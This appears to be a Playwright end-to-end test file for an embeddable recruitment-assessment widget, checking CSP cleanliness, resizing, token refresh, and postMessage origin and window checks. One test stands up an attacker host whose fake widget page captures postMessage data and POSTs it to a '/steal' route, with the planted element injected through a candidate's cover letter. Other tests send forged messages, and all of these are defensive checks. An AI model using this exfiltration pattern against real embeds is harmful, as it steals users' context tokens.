// The script-tag embed in Chromium: an integrator's page on another origin, under a strict CSP,
// mounting the real widget from the real server.
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { assay } from '../helpers/cli.ts';
import { startServer, type DemoFile, type RunningServer } from '../helpers/server.ts';
import { freshCandidate, launchChromium, mintContext, startHost, strictCsp, type ContextClaims, type HostServer } from './helpers.ts';

let server: RunningServer;
let host: HostServer;
let browser: Browser;
/** A second site on yet another origin: an attacker's, or an integrator's page not allowed yet. */
let evil: HostServer;
/** A second Assay account that allows only https://ats.other.example to frame it. */
let other: DemoFile;
const people = new Map<string, ReturnType<typeof freshCandidate>>();
/** Every context token the host's backend handed out: who asked, when, and when it expires. */
const minted: { who: string; at: number; exp: number }[] = [];

// The copy-paste snippet from docs/embedding.md, pointing at the test server.
const snippet = (assay: string) => `(function (w, d, src) {
  if (w.Assay) return;
  var a = (w.Assay = function () { a.q.push(arguments); });
  a.q = [];
  var s = d.createElement('script');
  s.async = true;
  s.src = src;
  d.head.appendChild(s);
})(window, document, '${assay}/embed.js');`;

// Records what the host page would notice: CSP violations and every widget event.
const PROBE = `window.cspViolations = [];
document.addEventListener('securitypolicyviolation', function (e) { cspViolations.push(e.violatedDirective + ' ' + e.blockedURI); });
window.events = [];
window.record = function (name) { return function (e) { events.push({ who: name, type: e.type, payload: e.payload }); }; };`;

function hostPage(path: string, body: string, scripts: string[]) {
  const tags = scripts.map((src) => `<script src="${src}"></script>`).join('\n    ');
  host.page(
    path,
    `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>Integrator page</title>
    <script src="/probe.js"></script>
  </head>
  <body>
    ${body}
    ${tags}
  </body>
</html>`,
    strictCsp(server.url),
  );
}

beforeAll(async () => {
  [server, browser, host, evil] = await Promise.all([startServer(), launchChromium(), startHost(), startHost()]);
  const created = await assay(
    ['accounts:create', '--name', 'Other ATS', '--id', 'other', '--issuer', 'https://other.example', '--frame-origin', 'https://ats.other.example', '--no-packages', '--json'],
    { ...server.storeEnv },
  );
  expect(created.code, created.stderr).toBe(0);
  other = { ...created.json, account_id: 'other' } as DemoFile;
  host.script('/probe.js', PROBE);
  host.script('/snippet.js', snippet(server.url));
  host.page('/blank.html', '<!doctype html><title>blank</title>', strictCsp(server.url));
  // Plays the integrator's backend: a fresh context token per call, one candidate per `who`.
  host.route('/ctx', async (req, res) => {
    const q = new URL(req.url!, host.url).searchParams;
    const who = q.get('who') ?? 'default';
    if (!people.has(who)) people.set(who, freshCandidate(who));
    const ttl = Number(q.get('ttl') ?? 600);
    const claims: ContextClaims = { ...people.get(who)!, ttl, role: (q.get('role') as ContextClaims['role']) ?? 'recruiter' };
    const context = await mintContext(q.get('account') === 'other' ? other : server.demo, claims);
    minted.push({ who, at: Date.now(), exp: Date.now() + ttl * 1000 });
    res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' }).end(JSON.stringify({ context }));
  });
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([server?.stop(), host?.stop(), evil?.stop()]);
});

async function open(path: string): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(host.url + path);
  return page;
}

async function frameOf(page: Page, selector: string): Promise<Frame> {
  const handle = await page.waitForSelector(`${selector} iframe`, { state: 'attached', timeout: 20_000 });
  const frame = await handle.contentFrame();
  if (!frame) throw new Error('no frame for ' + selector);
  return frame;
}

type Recorded = { who: string; type: string; payload: unknown };
/** Waits until the host page has recorded an event matching `type` (and `who`, when given). */
const waitForEvent = (page: Page, type: string, who?: string, count = 1) =>
  page.waitForFunction(
    ([t, w, n]) => (window as unknown as { events: Recorded[] }).events.filter((e) => e.type === t && (!w || e.who === w)).length >= (n as number),
    [type, who, count] as const,
    { timeout: 20_000, polling: 100 },
  );

/** Number of `message` listeners on the host window, straight from DevTools. */
async function messageListeners(page: Page): Promise<number> {
  const cdp = await page.context().newCDPSession(page);
  const { result } = await cdp.send('Runtime.evaluate', { expression: 'window' });
  const { listeners } = await cdp.send('DOMDebugger.getEventListeners', { objectId: result.objectId! });
  await cdp.detach();
  return listeners.filter((l) => l.type === 'message').length;
}

async function expectCleanHost(page: Page) {
  expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);
  // The loader never adds <style> or inline script to the host page.
  expect(await page.evaluate(() => document.querySelectorAll('style').length)).toBe(0);
  expect(await page.evaluate(() => [...document.scripts].filter((s) => !s.src).length)).toBe(0);
}

describe('script-tag embed', () => {
  test('two instances on one page are independent and report their own events with payloads', async () => {
    host.script(
      '/two.js',
      `var a = Assay('mount', '#a', { view: 'orders', account: 'demo', theme: 'light', context: { url: '/ctx?who=two-a' } });
var b = Assay('mount', document.getElementById('b'), { view: 'status', account: 'demo', theme: 'dark', locale: 'nl', context: { url: '/ctx?who=two-b' } });
a.on('*', record('a'));
b.on('*', record('b'));
window.handles = { a: a, b: b };`,
    );
    hostPage('/two.html', '<div id="a"></div><div id="b"></div>', [`${server.url}/embed.js`, '/two.js']);
    const page = await open('/two.html');
    await waitForEvent(page, 'ready', undefined, 2);
    const ready = await page.evaluate(() => (window as unknown as { events: unknown[] }).events);
    expect(ready).toEqual(
      expect.arrayContaining([
        { who: 'a', type: 'ready', payload: { v: 1, view: 'orders', role: 'recruiter' } },
        { who: 'b', type: 'ready', payload: { v: 1, view: 'status', role: 'recruiter' } },
      ]),
    );
    const srcs = await page.evaluate(() => [...document.querySelectorAll('iframe')].map((f) => f.src));
    expect(srcs).toHaveLength(2);
    const ids = srcs.map((s) => new URL(s).searchParams.get('instance'));
    expect(ids[0]).not.toBe(ids[1]);
    for (const src of srcs) {
      // The context travels by postMessage only.
      expect(src).not.toContain('context');
      expect(new URL(src).searchParams.get('parent')).toBe(host.origin);
    }

    const a = await frameOf(page, '#a');
    const b = await frameOf(page, '#b');
    // Theme and locale reached each frame separately.
    expect(await a.evaluate(() => document.documentElement.dataset.theme)).toBe('light');
    expect(await b.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
    await b.getByRole('heading', { name: 'Assessments' }).waitFor({ timeout: 20_000 });
    expect(await b.evaluate(() => document.documentElement.lang)).toBe('nl');

    await a.getByRole('option').first().click();
    const chosen = (await a.getByRole('option', { selected: true }).locator('.assay-option-name').textContent())!;
    await a.getByRole('button', { name: 'Send' }).click();
    await waitForEvent(page, 'order.created');
    const created = await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'order.created'));
    expect(created).toEqual([
      { who: 'a', type: 'order.created', payload: { v: 1, order_id: expect.stringMatching(/^ord_/), package_id: expect.any(String), package_name: chosen, status: 'pending' } },
    ]);
    const orderId = (created[0] as unknown as { payload: { order_id: string } }).payload.order_id;

    await a.getByRole('button', { name: `Cancel ${chosen}` }).click();
    await a.getByRole('button', { name: 'Yes, cancel' }).click();
    await waitForEvent(page, 'order.updated');
    const updated = await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'order.updated'));
    expect(updated).toEqual([{ who: 'a', type: 'order.updated', payload: { v: 1, order_id: orderId, status: 'cancelled', previous_status: 'pending' } }]);
    // B's candidate is someone else: its list stays empty.
    expect(await b.getByText('Er zijn nog geen assessments naar deze kandidaat verstuurd.').isVisible()).toBe(true);
    await expectCleanHost(page);
    await page.close();
  });

  test('messages from the wrong origin or the wrong window are ignored, both ways', async () => {
    host.script(
      '/guard.js',
      `var a = Assay('mount', '#a', { view: 'picker', account: 'demo', context: { url: '/ctx?who=guard' } });
var other = Assay('mount', '#other', { view: 'status', account: 'demo', context: { url: '/ctx?who=guard-2' } });
a.on('*', record('a'));
window.handles = { a: a, other: other };`,
    );
    hostPage('/guard.html', '<div id="a"></div><div id="other"></div><iframe id="sibling" title="sibling"></iframe>', [`${server.url}/embed.js`, '/guard.js']);
    const page = await open('/guard.html');
    await waitForEvent(page, 'ready');
    const a = await frameOf(page, '#a');
    await a.getByRole('option').first().waitFor({ timeout: 20_000 });
    const id = await page.evaluate(() => (window as unknown as { handles: { a: { id: string } } }).handles.a.id);
    const heightBefore = await page.evaluate(() => document.querySelector('#a iframe')!.getBoundingClientRect().height);
    const forged = (type: string, payload: unknown) => ({ assay: 1, id, type, payload });

    // 1. The host page itself pretends to be the widget (wrong origin).
    await page.evaluate((msg) => window.postMessage(msg, '*'), forged('order.created', { v: 1, order_id: 'ord_forged1' }));
    // 2. Another Assay frame (right origin, wrong window) uses A's instance id.
    const other = await frameOf(page, '#other');
    await other.evaluate(
      ([msg, resize, origin]) => {
        window.parent.postMessage(msg, origin as string);
        window.parent.postMessage(resize, origin as string);
      },
      [forged('order.created', { v: 1, order_id: 'ord_forged2' }), forged('resize', { height: 999 }), host.origin] as const,
    );
    // window.frames is in creation order in Chromium: find A's index from the host side.
    const aIndex = await page.evaluate(() => {
      const target = (document.querySelector('#a iframe') as HTMLIFrameElement).contentWindow;
      return Array.from({ length: window.frames.length }, (_, i) => window.frames[i]).indexOf(target!);
    });
    expect(aIndex).toBeGreaterThanOrEqual(0);
    // 3. Into the widget: a sibling frame on the host's origin (right origin, wrong window) asks for another view.
    const sibling = (await (await page.$('#sibling'))!.contentFrame())!;
    await sibling.evaluate(
      ([msg, origin, i]) => (window.parent.frames[i as number] as Window).postMessage(msg, origin as string),
      [forged('update', { view: 'result' }), server.url, aIndex] as const,
    );
    // 4. Into the widget: another Assay frame (wrong origin for A, which trusts only the host origin).
    await other.evaluate(
      ([msg, origin, i]) => (window.parent.frames[i as number] as Window).postMessage(msg, origin as string),
      [forged('update', { view: 'status' }), server.url, aIndex] as const,
    );

    // A round trip through the legitimate channel proves the forged ones had their chance first.
    await page.evaluate(() => (window as unknown as { handles: { a: { update(o: object): void } } }).handles.a.update({ theme: 'dark' }));
    await a.waitForFunction(() => document.documentElement.dataset.theme === 'dark', null, { timeout: 20_000 });
    expect(await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.map((e) => e.type))).toEqual(['ready']);
    expect(await page.evaluate(() => document.querySelector('#a iframe')!.getBoundingClientRect().height)).toBe(heightBefore);
    expect(await a.getByRole('heading', { name: 'Send an assessment' }).isVisible()).toBe(true);

    // The real parent can change the view.
    await page.evaluate(() => (window as unknown as { handles: { a: { update(o: object): void } } }).handles.a.update({ view: 'result' }));
    await a.getByRole('heading', { name: 'Results' }).waitFor({ timeout: 20_000 });
    await expectCleanHost(page);
    await page.close();
  });

  test('the frame is hidden until sized, then follows its content growing and shrinking', async () => {
    host.script(
      '/resize.js',
      `window.handle = Assay('mount', '#w', { view: 'status', account: 'demo', context: { url: '/ctx?who=resize' } });
window.hiddenAtMount = handle.iframe.style.visibility;
handle.on('*', record('w'));`,
    );
    hostPage('/resize.html', '<div id="w" style="width: 480px"></div><p id="after">after the widget</p>', [`${server.url}/embed.js`, '/resize.js']);
    const page = await open('/resize.html');
    expect(await page.evaluate(() => (window as unknown as { hiddenAtMount: string }).hiddenAtMount)).toBe('hidden');
    const frame = await frameOf(page, '#w');
    await waitForEvent(page, 'ready');
    await frame.getByText('No assessments have been sent to this candidate yet.').waitFor({ timeout: 20_000 });

    const sizes = async () => {
      const outer = await page.evaluate(() => {
        const f = document.querySelector('#w iframe') as HTMLIFrameElement;
        return { height: f.getBoundingClientRect().height, visibility: getComputedStyle(f).visibility };
      });
      const inner = await frame.evaluate(() => Math.ceil(document.getElementById('assay-root')!.getBoundingClientRect().height));
      return { ...outer, inner };
    };
    const settle = async (predicate: (s: Awaited<ReturnType<typeof sizes>>) => boolean) => {
      const deadline = Date.now() + 20_000;
      for (;;) {
        const s = await sizes();
        if (predicate(s) || Date.now() > deadline) return s;
        await page.waitForTimeout(100);
      }
    };
    const fits = (s: { height: number; inner: number }) => Math.abs(s.height - s.inner) <= 2;

    const small = await settle(fits);
    expect(small.visibility).toBe('visible');
    expect(fits(small)).toBe(true);

    await page.evaluate(() => (window as unknown as { handle: { update(o: object): void } }).handle.update({ view: 'orders' }));
    await frame.getByRole('option').first().waitFor({ timeout: 20_000 });
    const big = await settle((s) => fits(s) && s.height > small.height + 50);
    expect(big.height).toBeGreaterThan(small.height + 50);
    expect(fits(big)).toBe(true);

    await page.evaluate(() => (window as unknown as { handle: { update(o: object): void } }).handle.update({ view: 'status' }));
    const shrunk = await settle((s) => fits(s) && s.height < big.height - 50);
    expect(shrunk.height).toBeLessThan(big.height - 50);
    expect(Math.abs(shrunk.height - small.height)).toBeLessThanOrEqual(2);
    await page.close();
  });

  test('destroy() removes the iframe and every listener it added', async () => {
    hostPage('/destroy.html', '<div id="a"></div><div id="b"></div>', [`${server.url}/embed.js`]);
    const page = await open('/destroy.html');
    const before = await messageListeners(page);
    await page.evaluate(() => {
      const w = window as unknown as { Assay: (...a: unknown[]) => unknown; handles: unknown[] };
      w.handles = [
        w.Assay('mount', '#a', { view: 'picker', account: 'demo', context: { url: '/ctx?who=destroy' } }),
        w.Assay('mount', '#b', { view: 'status', account: 'demo', context: { url: '/ctx?who=destroy' } }),
      ];
    });
    await frameOf(page, '#a');
    expect(await messageListeners(page)).toBe(before + 2);
    await page.evaluate(() => (window as unknown as { handles: { destroy(): void }[] }).handles.forEach((h) => h.destroy()));
    expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);
    expect(await messageListeners(page)).toBe(before);
    await page.close();
  });

  test('a context function is called again before the token expires, and the frame keeps working', async () => {
    host.script(
      '/refresh.js',
      `window.contextCalls = [];
window.handle = Assay('mount', '#w', {
  view: 'status',
  account: 'demo',
  context: function () {
    return fetch('/ctx?who=refresh&ttl=600').then(function (r) { return r.json(); }).then(function (j) {
      var exp = JSON.parse(atob(j.context.split('.')[1].replace(/-/g, '+').replace(/_/g, '/'))).exp * 1000;
      contextCalls.push({ at: Date.now(), exp: exp });
      return j.context;
    });
  },
});
handle.on('*', record('w'));`,
    );
    hostPage('/refresh.html', '<div id="w"></div>', [`${server.url}/embed.js`, '/refresh.js']);
    // The page's clock is ours: time is jumped forward instead of waited for.
    const page = await browser.newPage();
    await page.clock.install();
    await page.goto(host.url + '/refresh.html');
    await waitForEvent(page, 'ready');
    type Call = { at: number; exp: number };
    const calls = () => page.evaluate(() => (window as unknown as { contextCalls: Call[] }).contextCalls);
    const [first] = await calls();
    expect(await calls()).toHaveLength(1);
    // Up to two minutes before expiry nothing is fetched…
    await page.clock.fastForward(first!.exp - 120_000 - (await page.evaluate(() => Date.now())));
    expect(await calls()).toHaveLength(1);
    // …and past the refresh point (a minute before exp) the function is called once more.
    await page.clock.fastForward(61_000);
    await page.waitForFunction(() => (window as unknown as { contextCalls: Call[] }).contextCalls.length >= 2, null, { timeout: 20_000, polling: 100 });
    const second = (await calls())[1]!;
    expect(second.at).toBeLessThan(first!.exp);
    expect(second.at).toBeGreaterThanOrEqual(first!.exp - 60_000);
    // The server mints on its own (real) clock: both calls may fall in the same second, so the new
    // token expires no earlier than the first — never later is asserted, only not older.
    expect(second.exp).toBeGreaterThanOrEqual(first!.exp);
    // The frame still answers: a view change travels and renders, and nothing went wrong.
    await page.evaluate(() => (window as unknown as { handle: { update(o: object): void } }).handle.update({ view: 'result' }));
    const frame = await frameOf(page, '#w');
    await frame.getByRole('heading', { name: 'Results' }).waitFor({ timeout: 20_000 });
    expect(await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'error'))).toEqual([]);
    await page.close();
  });

  describe('the snippet queues calls until the loader arrives', () => {
    const QUEUED = (name: string) => `Assay('mount', '#w', { view: 'picker', account: 'demo', context: { url: '/ctx?who=${name}' }, on: { '*': record('${name}') } });`;

    test.each([
      ['before the loader tag', (s: string) => ['/snippet.js', `/q-${s}.js`, `${server.url}/embed.js`]],
      ['after the loader tag', (s: string) => [`${server.url}/embed.js`, '/snippet.js', `/q-${s}.js`]],
      ['without a loader tag (the snippet injects it)', (s: string) => ['/snippet.js', `/q-${s}.js`]],
    ])('%s', async (_label, scripts) => {
      const name = 'snip' + host.requests.length;
      host.script(`/q-${name}.js`, QUEUED(name));
      hostPage(`/${name}.html`, '<div id="w"></div>', scripts(name));
      const page = await open(`/${name}.html`);
      await waitForEvent(page, 'ready');
      await page.waitForTimeout(300); // a second loader, if any, would have mounted a second frame by now
      expect(await page.evaluate(() => document.querySelectorAll('#w iframe').length)).toBe(1);
      expect(await page.evaluate(() => typeof (window as unknown as { Assay: { loaded?: boolean } }).Assay.loaded)).toBe('boolean');
      const frame = await frameOf(page, '#w');
      await frame.getByRole('option').first().waitFor({ timeout: 20_000 });
      await expectCleanHost(page);
      await page.close();
    });
  });

  test('HTML-only mode mounts data-assay-* elements on load and again after Assay("scan")', async () => {
    host.script(
      '/html-mode.js',
      `document.addEventListener('assay:ready', function (e) { events.push({ who: e.target.id, type: 'ready', payload: e.detail }); });
window.addLater = function () {
  var el = document.createElement('div');
  el.id = 'later';
  el.setAttribute('data-assay-view', 'status');
  el.setAttribute('data-assay-context', '/ctx?who=html-later');
  el.setAttribute('data-assay-account', 'demo');
  document.body.appendChild(el);
  Assay('scan');
};`,
    );
    hostPage(
      '/html.html',
      `<div id="first" data-assay-view="picker" data-assay-account="demo" data-assay-theme="dark" data-assay-context="/ctx?who=html"></div>`,
      [`${server.url}/embed.js`, '/html-mode.js'],
    );
    const page = await open('/html.html');
    await waitForEvent(page, 'ready', 'first');
    const first = await frameOf(page, '#first');
    expect(await first.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
    await page.evaluate(() => (window as unknown as { addLater(): void }).addLater());
    await waitForEvent(page, 'ready', 'later');
    expect(await page.evaluate(() => (window as unknown as { events: unknown[] }).events)).toEqual([
      { who: 'first', type: 'ready', payload: { v: 1, view: 'picker', role: 'recruiter' } },
      { who: 'later', type: 'ready', payload: { v: 1, view: 'status', role: 'recruiter' } },
    ]);
    // Scanning again mounts nothing twice.
    await page.evaluate(() => (window as unknown as { Assay(c: string): void }).Assay('scan'));
    expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(2);
    await expectCleanHost(page);
    await page.close();
  });

  describe('the account comes from the verified context, and the page must be allowed to show it', () => {
    test('{ view, context } without account mounts, sizes itself and emits ready', async () => {
      host.script('/no-account.js', `window.handle = Assay('mount', '#w', { view: 'status', context: { url: '/ctx?who=no-account' }, on: { '*': record('w') } });`);
      hostPage('/no-account.html', '<div id="w"></div>', [`${server.url}/embed.js`, '/no-account.js']);
      const page = await open('/no-account.html');
      await waitForEvent(page, 'ready');
      expect(await page.evaluate(() => (window as unknown as { events: unknown[] }).events)).toEqual([{ who: 'w', type: 'ready', payload: { v: 1, view: 'status', role: 'recruiter' } }]);
      const frame = await frameOf(page, '#w');
      await frame.getByText('No assessments have been sent to this candidate yet.').waitFor({ timeout: 20_000 });
      await page.waitForFunction(() => document.querySelector('#w iframe')!.getBoundingClientRect().height > 20, null, { timeout: 20_000, polling: 100 });
      const src = new URL(await page.evaluate(() => document.querySelector('iframe')!.src));
      expect(src.searchParams.has('account')).toBe(false);
      expect(src.searchParams.get('iss')).toBe(server.demo.issuer);
      expect(src.href).not.toContain('context');
      await expectCleanHost(page);
      await page.close();
    });

    test('a page the account does not allow gets an error event, a console line with the fix, and a readable frame; the documented command lets it in', async () => {
      host.script('/not-allowed.js', `window.handle = Assay('mount', '#w', { view: 'status', context: { url: '/ctx?who=not-allowed&account=other' }, on: { '*': record('w') } });`);
      hostPage('/not-allowed.html', '<div id="w" style="width: 480px"></div>', [`${server.url}/embed.js`, '/not-allowed.js']);
      const page = await browser.newPage();
      const consoleLines: string[] = [];
      page.on('console', (m) => consoleLines.push(m.text()));
      await page.goto(host.url + '/not-allowed.html');
      await waitForEvent(page, 'error');
      const [error] = await page.evaluate(() => (window as unknown as { events: { type: string; payload: { code: string; message: string } }[] }).events.filter((e) => e.type === 'error'));
      const command = `npx assay accounts:update --account other --frame-origin ${host.origin}`;
      expect(error!.payload.code).toBe('frame_origin_not_allowed');
      expect(error!.payload.message).toContain(host.origin);
      expect(error!.payload.message).toContain(command);
      expect(consoleLines.some((l) => l.includes(host.origin) && l.includes(command))).toBe(true);
      // Not a blank box: the frame says why, at a size the page can read.
      const frame = await frameOf(page, '#w');
      await frame.getByRole('alert').getByText(command).waitFor({ timeout: 20_000 });
      await page.waitForFunction(() => document.querySelector('#w iframe')!.getBoundingClientRect().height > 40, null, { timeout: 20_000, polling: 100 });
      expect(await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'ready'))).toEqual([]);
      await page.close();

      // Going live: the command from the message, as the guide gives it (keeping the existing origin).
      const allowed = await assay(['accounts:update', '--account', 'other', '--frame-origin', 'https://ats.other.example', '--frame-origin', host.origin], { ...server.storeEnv });
      expect(allowed.code, allowed.stderr).toBe(0);
      const again = await open('/not-allowed.html');
      await waitForEvent(again, 'ready');
      await (await frameOf(again, '#w')).getByText('No assessments have been sent to this candidate yet.').waitFor({ timeout: 20_000 });
      await again.close();
      const reset = await assay(['accounts:update', '--account', 'other', '--frame-origin', 'https://ats.other.example'], { ...server.storeEnv });
      expect(reset.code, reset.stderr).toBe(0);
    });

    test("framing with one account's id and another account's context fails", async () => {
      host.script('/mismatch.js', `Assay('mount', '#w', { view: 'status', account: 'demo', context: { url: '/ctx?who=mismatch&account=other' }, on: { '*': record('w') } });`);
      hostPage('/mismatch.html', '<div id="w"></div>', [`${server.url}/embed.js`, '/mismatch.js']);
      const page = await open('/mismatch.html');
      await waitForEvent(page, 'error');
      const events = await page.evaluate(() => (window as unknown as { events: { type: string; payload: { code: string } }[] }).events);
      expect(events.map((e) => [e.type, e.payload.code])).toEqual([['error', 'context_account_mismatch']]);
      await page.close();
    });

    test('an element in sanitized content cannot send the context to another origin (data-assay-origin is ignored)', async () => {
      // The attacker's page plays a widget: it says hello to whoever framed it and keeps what comes back.
      const stolen: string[] = [];
      evil.route('/steal', (_req, res, body) => {
        stolen.push(body);
        res.writeHead(204).end();
      });
      evil.page(
        '/widget/',
        `<!doctype html><title>w</title><script>
var q = new URLSearchParams(location.search);
addEventListener('message', function (e) { fetch('/steal', { method: 'POST', body: JSON.stringify(e.data) }); });
parent.postMessage({ assay: 1, id: q.get('instance'), type: 'hello', payload: { protocol: 1, view: 'status' } }, '*');
</script>`,
      );
      // A candidate's cover letter, shown by an ATS page without a CSP, carries the attacker's markup.
      host.page(
        '/profile.html',
        `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Candidate</title><script src="/probe.js"></script></head><body>
<h1>Candidate profile</h1>
<section id="cover-letter"><p>Dear hiring team,</p>
<div id="planted" data-assay-view="status" data-assay-account="demo" data-assay-context="/ctx?who=theft" data-assay-origin="${evil.origin}"></div></section>
<script src="${server.url}/embed.js"></script>
<script src="/theft.js"></script></body></html>`,
      );
      host.script('/theft.js', `document.addEventListener('assay:ready', function (e) { events.push({ who: e.target.id, type: 'ready', payload: e.detail }); });`);
      const page = await open('/profile.html');
      // Whichever comes first: the real widget's ready, or a request for the attacker's widget page (bounded).
      let settled = false;
      const ready = waitForEvent(page, 'ready', 'planted').then(
        () => 'ready',
        () => 'no ready event',
      );
      const framed = (async () => {
        for (const end = Date.now() + 20_000; !settled && Date.now() < end; await new Promise((r) => setTimeout(r, 100))) {
          if (evil.requests.includes('/widget/')) return 'the attacker framed';
        }
        return 'nothing';
      })();
      const first = await Promise.race([ready, framed]);
      settled = true;
      // The attacker's origin was never asked for anything, let alone given a context…
      expect(evil.requests).not.toContain('/widget/');
      expect(stolen).toEqual([]);
      // …and the element mounts the real widget from the loader's own origin.
      expect(first).toBe('ready');
      const src = await page.evaluate(() => document.querySelector('#planted iframe')!.getAttribute('src')!);
      expect(new URL(src).origin).toBe(server.url);
      expect(evil.requests).not.toContain('/widget/');
      expect(stolen).toEqual([]);
      await framed;
      await page.close();
    });
  });
});
